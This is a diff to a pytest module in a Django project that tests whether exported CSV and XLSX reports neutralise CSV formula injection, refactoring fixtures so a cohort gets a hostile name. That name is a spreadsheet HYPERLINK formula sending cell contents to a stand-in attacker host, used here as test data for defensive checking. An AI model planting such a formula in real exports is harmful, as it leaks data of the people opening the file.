@@ -1,6 +1,7 @@
 """The report's files are safe to open in a spreadsheet program (OWASP CSV injection): a cohort
 called like a formula stays text, in CSV and XLSX, internal and external."""
 
+import copy
 import csv
 import io
 
@@ -8,20 +9,31 @@ import pytest
 from django.core.management import call_command
 from openpyxl import load_workbook
 
-from .factories import published_dataset
+from droomplan.programmes.tests.factories import MunicipalityFactory, ProgrammeFactory
 
-pytestmark = pytest.mark.django_db
+from .factories import published_dataset
 
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
 
 
+@pytest.fixture(scope="module")
+def hostile(module_db):
+    """The published dataset with a cohort named like a formula, built once for this module."""
+    with module_db.unblock():
+        MunicipalityFactory()
+        mothers = published_dataset(ProgrammeFactory(code="droommoeders", name="Droommoeders"))
+        cohort = mothers[0].cohort
+        cohort.name = HOSTILE
+        cohort.save()
+        return mothers
+
+
 @pytest.fixture
-def data(programme):
-    mothers = published_dataset(programme)
-    cohort = mothers[0].cohort
-    cohort.name = HOSTILE
-    cohort.save()
-    return mothers
+def data(db, hostile):
+    return copy.deepcopy(hostile)
+
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data")]
 
 
 def _run(*args) -> str:
